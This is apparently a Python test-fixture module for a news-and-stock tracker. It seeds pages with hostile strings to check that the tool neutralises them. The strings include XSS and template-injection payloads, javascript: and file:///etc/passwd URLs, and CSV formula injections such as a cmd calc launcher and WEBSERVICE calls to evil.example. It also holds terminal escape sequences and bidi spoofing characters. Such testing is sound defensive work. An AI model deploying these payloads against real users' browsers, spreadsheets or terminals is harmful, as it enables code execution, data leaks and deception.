"""400 hostile texts: a hundred kinds, each as a title, a byline, a symbol and an address."""

from __future__ import annotations

import hashlib
import json
import os
import pty
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Literal

from showcase import make

from tickertrack import Tracker
from tickertrack.config import load_config
from tickertrack.models import (
    Article,
    Locator,
    Page,
    Published,
    Quote,
    Strip,
    content_id,
)

Place = Literal["title", "byline", "symbol", "url"]

Words = list[str]

PLACES: tuple[Place, ...] = ("title", "byline", "symbol", "url")
DAY, SYMBOL = "2024-05-07", "TRG"
# As long as a table takes a symbol.
_SYMBOL = 40
_NOON = datetime(2024, 5, 7, 7, tzinfo=UTC)

HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover="alert(1)',
    "'><i onclick='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe srcdoc='<b>x'></iframe>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input>",
    "{{ 7*7 }}{% for x in y %}",
    "${7*7}#{7*7}<%= 7*7 %>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt://x/%0aalert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://[x",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/\u202egnp.exe",
)
MARKDOWN = (
    "[a](javascript:alert(1))",
    "![a](http://evil.example/p.png)",
    "a | b \\| c \\",
    "`code` <b>bold</b>",
    "<http://evil.example/>",
    "[red]rich[/red] [link=file:///x]y[/link]",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\ufe66=1+1",
    "a\t=1+1",
    "a;=1+1",
    "a;\t +1+1",
    'a";=1+1;"',
    'a,"=1+1",b',
    "a|=1+1",
    "'=1+1",
    '"=1+1"',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "%=1+1",
    "\x00=1+1",
    "\x1b=1+1",
)
CONTROLS = (
    "\x1b[31mred",
    "\x1b[2J\x1b[1;1Hgone",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP1$r\x1b\\",
    "\x1b_G\x1b\\",
    "\x1b[6n",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "a\rb",
    "a\x08\x08b",
    "a\x0bb\x0cc",
    "a\x00b",
    "a\x07b",
    "a\x7fb",
    "a\x85b",
    "a\x0e\x0fb",
    "a\x1c\x1d\x1e\x1fb",
    "a\u2028b\u2029c",
)
MARKS = (
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u202aabc\u202b",
    "\u2066abc\u2069",
    "\u2067abc\u2068",
    "a\u061cb",
    "a\u200eb\u200fc",
    "a\u206ab\u206fc",
    "a\ufeffb",
    "a\ufffeb\uffffc",
    "a\ud800b",
    "\U000e0041\U000e0042tags",
)
# What is nothing but foreign: it stays as it is.
HONEST = (
    "\u0628\u0627\u0632\u0627\u0631 \u0645\u06cc\u06ba \u062a\u06cc\u0632\u06cc",
    "KSE-100 up 5%, Rs 1.2bn traded; 3 fell",
)
GROUPS = (HTML, ADDRESSES, MARKDOWN, FORMULAS, CONTROLS, MARKS, HONEST)
KINDS = tuple(kind for group in GROUPS for kind in group)
# Some of each, for when there is no time for all.
SAMPLE = (
    *(HTML[0], MARKDOWN[2], FORMULAS[0], FORMULAS[7], FORMULAS[20], HONEST[0]),
    *(HTML[3], ADDRESSES[11], CONTROLS[2], MARKS[5], MARKS[10]),
)

# What would move a cursor, or turn the direction of writing.
FORBIDDEN = frozenset(
    chr(code)
    for code in (
        *range(0x0A),
        *range(0x0B, 0x20),
        *range(0x7F, 0xA0),
        *(0x061C, 0x200E, 0x200F, 0x2028, 0x2029, 0xFEFF, 0xFFFE, 0xFFFF),
        *range(0x202A, 0x202F),
        *range(0x2066, 0x2070),
    )
)


@dataclass(frozen=True, slots=True)
class Trap:
    """A hostile text in its place; each has a page of its own."""

    number: int
    place: Place
    text: str


def traps(kinds: Sequence[str] = KINDS) -> list[Trap]:
    """List every kind in every place."""
    found = [(place, kind) for place in PLACES for kind in kinds]
    return [Trap(number, place, kind) for number, (place, kind) in enumerate(found)]


def make_trapped(folder: Path, laid: Sequence[Trap]) -> Path:
    """Store hostile pages among the showcase's, by the real store; give the settings' path."""
    config = make(folder, 6)
    with Tracker(load_config(config, environ={})) as tracker:
        tracker.store(page_of(trap) for trap in laid)
        tracker.resolve()
        tracker.link()
    return config


def page_of(trap: Trap) -> Page:
    """Lay out a page that is honest but for one text; it names a stock, so that it is linked."""
    said = {trap.place: trap.text}
    url = said.get("url", f"https://www.harbour-courier.example/news/{90_000 + trap.number}")
    at = _NOON + timedelta(seconds=trap.number)
    body = f"TRG Pakistan sold more of its software, says report {trap.number}."
    return Page(
        id=content_id("trap", str(trap.number)),
        undated_id=content_id("trap", str(trap.number), "undated"),
        url=url,
        publisher="courier",
        captured_at=at,
        capture_basis="http",
        page_date=None,
        article=Article(
            url=url,
            title=said.get("title", f"Software sells, says report {trap.number}"),
            byline=said.get("byline", "A Reporter"),
            published=Published(at - timedelta(minutes=5), "second"),
            publisher="courier",
            text=body,
            tags=(said.get("byline", "software"),),
        ),
        strip=strip_of(symbol_of(trap.text) if trap.place == "symbol" else None),
        sha256=hashlib.sha256(body.encode()).hexdigest(),
        locator=Locator(f"/pages/{trap.number}.html", 0, len(body)),
    )


def symbol_of(text: str) -> str:
    """Give a text as a symbol that SQLite takes: short, in capitals, of whole letters, no NUL."""
    whole = text.encode("utf-8", "replace").decode()
    return whole.replace("\x00", "")[:_SYMBOL].upper()


def strip_of(symbol: str | None) -> Strip:
    """Lay out a strip of one quote, or of none."""
    if symbol is None:
        return Strip("", (), (), 0)
    figures = (Decimal("33.30"), Decimal("0.20"), Decimal("0.6"))
    raw = f"{symbol} 33.30 Increased By 0.20 (0.6%)"
    quote = Quote(1, "stocks", symbol, *figures, "up", "ok", raw)
    return Strip("brecorder-2022", (quote,), (), 0)


# ---- a terminal


def on_terminal(config: Path, commands: Sequence[Words], bare: str = "") -> str:
    """
    Run commands, one after the other in one process, on a terminal; give all that it was sent.

    With `bare`, texts go out as they are: the control of what makes them harmless.
    """
    told = config.with_name("commands.json")
    told.write_text(json.dumps(commands))
    words = [sys.executable, __file__, str(config), str(told), bare]
    leader, follower = pty.openpty()
    with subprocess.Popen(
        words, stdin=subprocess.DEVNULL, stdout=follower, stderr=follower, cwd=config.parent
    ) as process:
        os.close(follower)
        sent = _all_of(leader)
    assert process.returncode == 0, ascii(sent[-2000:])
    # A terminal's own way to end a line.
    return sent.decode().replace("\r\n", "\n")


def _all_of(leader: int) -> bytes:
    pieces = []
    with open(leader, "rb", buffering=0) as reading:
        while True:
            try:
                piece = reading.read(65_536)
            except OSError:
                break
            pieces.append(piece)
    return b"".join(pieces)


def _run(config: str, told: str, bare: str) -> None:
    from tickertrack import harmless  # noqa: PLC0415

    if bare:
        harmless.safe_term = str
    from tickertrack.cli import main  # noqa: PLC0415

    for words in json.loads(Path(told).read_text()):
        try:
            main(["--config", config, *words])
        except SystemExit as ended:
            if ended.code not in {0, 1, 2, 4, 75}:
                raise


if __name__ == "__main__":
    _run(*sys.argv[1:])
